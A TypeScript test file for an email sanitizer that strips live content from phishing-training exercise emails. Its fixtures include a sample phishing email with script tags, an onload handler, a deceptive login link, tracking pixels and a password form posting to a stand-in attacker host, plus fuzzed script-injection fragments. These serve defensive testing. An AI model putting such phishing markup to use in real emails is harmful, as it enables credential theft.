import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { trainingContent } from './content.ts';
import { disarmEmailHtml } from './disarm.ts';

/** Anything that could make the browser fetch, run or submit something. */
const LIVE = /<(script|style|iframe|object|embed|form|input|img|link|meta|base|svg|a)\b|<[a-z][^>]*\s(href|src|srcset|action|style|on\w+)\s*=/i;

describe('email disarming', () => {
  it('disarms an exercise email with live links, remote images, scripts, styles and a password form', () => {
    const evil = `<html><head><style>body{background:url(https://t.example/bg)}</style><script>alert(1)</script><meta http-equiv="refresh" content="0;url=https://evil.example"></head>
<body onload="steal()"><p style="color:red">Votre compte <a href="https://evil.example/login" onclick="x()">https://en-marche.fr/login</a></p>
<img src="https://tracker.example/open.gif?u=42" alt="logo"><img srcset="https://t.example/a.png 2x">
<form action="https://evil.example/post"><input type="password" name="pw"><button>OK</button></form>
<iframe src="https://evil.example/frame"></iframe><svg><script>alert(2)</script></svg><a href="javascript:alert(3)">ici</a></body></html>`;
    const { html, report } = disarmEmailHtml(evil, 'fr');
    expect(html).not.toMatch(LIVE);
    expect(html).not.toContain('alert(1)');
    expect(html).not.toContain('steal');
    // The real destination is shown as text next to the deceptive link text.
    expect(html).toContain('https://en-marche.fr/login');
    expect(html).toContain('<code>https://evil.example/login</code>');
    expect(report.links).toEqual([
      { href: 'https://evil.example/login', text: 'https://en-marche.fr/login' },
      { href: 'javascript:alert(3)', text: 'ici' },
    ]);
    expect(report.blockedImages).toContain('https://tracker.example/open.gif?u=42');
    expect(html).toContain('tracker.example');
    expect(report.formFields).toEqual(['password']);
    expect(report.removedElements).toMatchObject({ head: 1, iframe: 1, svg: 1, form: 1 });
  });

  it('renders every shipped exercise without a single live element', () => {
    const c = trainingContent();
    for (const x of [...c.exercises.byLang.fr, ...c.exercises.byLang.en]) expect(x.safeHtml, x.file).not.toMatch(LIVE);
    // The exercises really do carry live material that had to be disarmed.
    const raw = c.exercises.byLang.fr.map((x) => x.rawHtml).join('');
    expect(raw).toMatch(/<a href="https:/);
    expect(raw).toMatch(/<img src="https:/);
    expect(raw).toMatch(/<script>/);
  });

  it('bounds nesting depth and input size', () => {
    const deep = '<div>'.repeat(50_000) + 'x' + '</div>'.repeat(50_000);
    const { html } = disarmEmailHtml(deep);
    expect((html.match(/<div>/g) ?? []).length).toBeLessThanOrEqual(64);
    const big = disarmEmailHtml('<p>' + 'a'.repeat(3 * 1024 * 1024));
    expect(big.report.truncated).toBe(true);
    expect(big.html.length).toBeLessThan(1.2 * 1024 * 1024);
  });

  it('never lets markup through from random or hostile input', () => {
    const tag = fc.constantFrom('a', 'img', 'script', 'form', 'input', 'p', 'div', 'iframe', 'svg', 'style', 'b', 'table', 'td', 'x-y');
    const attr = fc.constantFrom(' href="https://e.example"', ' src=//t.example/p', ' onclick=alert(1)', ' style="x:y"', '', ' action=/x');
    const piece = fc.oneof(fc.string({ maxLength: 20 }), fc.tuple(tag, attr).map(([t, a]) => `<${t}${a}>`), tag.map((t) => `</${t}>`), fc.constantFrom('<!--', '-->', '<![CDATA[', '&lt;', '&#x3c;script&#x3e;', '<', '>', '"'));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (parts) => {
        const { html } = disarmEmailHtml(parts.join(''));
        expect(html).not.toMatch(LIVE);
      }),
      { numRuns: 500 },
    );
  });
});
